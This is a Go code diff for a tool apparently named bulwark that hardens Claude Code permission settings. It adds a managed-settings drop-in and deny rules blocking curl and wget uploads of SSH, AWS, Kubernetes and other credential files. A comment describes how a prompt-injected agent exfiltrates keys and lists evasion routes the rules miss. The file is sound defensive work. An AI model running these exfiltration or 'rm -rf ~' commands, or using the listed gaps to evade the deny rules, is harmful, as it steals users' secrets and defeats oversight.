@@ -55,7 +55,7 @@ var Claude = &Client{
 		Extra:   installer.InstallDenyRules,
 		Unextra: installer.UninstallDenyRules,
 	},
-	Scopes:      []installer.Scope{installer.ScopeUser, installer.ScopeProject, installer.ScopeLocal},
+	Scopes:      []installer.Scope{installer.ScopeUser, installer.ScopeProject, installer.ScopeLocal, installer.ScopeManaged},
 	TimeoutUnit: time.Second,
 
 	userDir: claudeDir,
@@ -68,6 +68,12 @@ var Claude = &Client{
 			return "", errNoHome
 		case installer.ScopeProject:
 			return filepath.Join(env.Cwd, ".claude", "settings.json"), nil
+		case installer.ScopeManaged:
+			// A drop-in of bulwark's own (a regular file, not a symlink:
+			// Claude Code warns about links out of the managed folder):
+			// merged after managed-settings.json, overridden by nothing
+			// below it; uninstall deletes it.
+			return filepath.Join(claudeManagedDir(env), "managed-settings.d", "bulwark.json"), nil
 		default: // local: at the git root since v2.1.211; outside a repository, here
 			return filepath.Join(gitRoot(env.Cwd), ".claude", "settings.local.json"), nil
 		}
@@ -235,6 +241,30 @@ var baseDenyRules = []string{
 	"Bash(rm -rf ~)",
 	"Bash(rm -rf ~/)",
 	"Bash(rm -rf $HOME)",
+	// Uploading a key or credential file with curl or wget, the way an
+	// injected agent exfiltrates: `curl -d @~/.ssh/id_rsa URL`, `-F f=@…`,
+	// `-T …`, `wget --post-file=…`. A leading "*" covers ~/, $HOME/ and
+	// absolute spellings. Deny rules run before the hook, so these hold
+	// when the hook is missing or broken. They cannot see through
+	// variables, pipes from another command (`cat key | curl -d @-`: the
+	// Read rules stop the cat), copies under another name, encodings,
+	// interpreters (python, node) or other tools (nc, socat, scp, rsync);
+	// the hook judges those.
+	"Bash(curl *@*.ssh/*)",
+	"Bash(curl *@*.aws/*)",
+	"Bash(curl *@*.netrc*)",
+	"Bash(curl *@*.git-credentials*)",
+	"Bash(curl *@*.docker/config.json*)",
+	"Bash(curl *@*.kube/*)",
+	"Bash(curl *@*.config/gcloud/*)",
+	"Bash(curl *-T *.ssh/*)",
+	"Bash(curl *-T *.aws/*)",
+	"Bash(curl *--upload-file *.ssh/*)",
+	"Bash(curl *--upload-file *.aws/*)",
+	"Bash(wget *--post-file*.ssh/*)",
+	"Bash(wget *--post-file*.aws/*)",
+	"Bash(wget *--body-file*.ssh/*)",
+	"Bash(wget *--body-file*.aws/*)",
 }
 
 // NativeToolDenyRules deny Claude Code's native tools outright (bare tool
